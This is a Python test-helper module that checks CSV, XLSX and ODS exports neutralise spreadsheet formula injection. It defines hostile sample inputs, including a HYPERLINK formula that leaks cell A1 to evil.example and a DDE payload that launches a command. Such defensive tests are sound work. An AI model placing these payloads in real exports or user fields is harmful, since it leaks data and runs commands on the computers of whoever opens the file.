"""Read exports back as a spreadsheet would, to check that user text stays text.

Shared by the export tests of every app: each puts PAYLOAD in a field a person
types (a name, a title) and checks that it comes out neutralised.
"""

import csv
import io
import re
import zipfile

# A classic of spreadsheet injection: a link that sends the cell's neighbours away.
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"clic")'

# Everything a spreadsheet may start a formula with (OWASP's list).
PAYLOADS = [
    PAYLOAD,
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def csv_is_formula_free(content: bytes) -> bool:
    """True when no cell would start a formula (a negative number may start with "-")."""
    return not any(
        cell[:1] in ("=", "+", "@", "\t", "\r")
        or (cell[:1] == "-" and not re.fullmatch(r"-[0-9,.]+", cell))
        for cell in csv_cells(content)
    )


def assert_csv_neutralised(content: bytes, payload: str = PAYLOAD) -> None:
    cells = csv_cells(content)
    assert "'" + payload in cells, f"{payload!r} not found quoted in {cells!r}"
    assert csv_is_formula_free(content)


def assert_xlsx_neutralised(content: bytes, payload: str = PAYLOAD) -> None:
    from openpyxl import load_workbook

    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    workbook = load_workbook(io.BytesIO(content))
    cells = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == payload
    ]
    assert cells, f"{payload!r} not found"
    assert all(cell.data_type == "s" for cell in cells)


def assert_ods_neutralised(content: bytes, payload: str = PAYLOAD) -> None:
    from odf import teletype
    from odf.opendocument import load
    from odf.table import TableCell

    document = load(io.BytesIO(content))
    cells = [
        cell
        for cell in document.spreadsheet.getElementsByType(TableCell)
        if teletype.extractText(cell) == payload
    ]
    assert cells, f"{payload!r} not found"
    for cell in cells:
        assert cell.getAttribute("valuetype") == "string"
        assert not cell.getAttribute("formula")
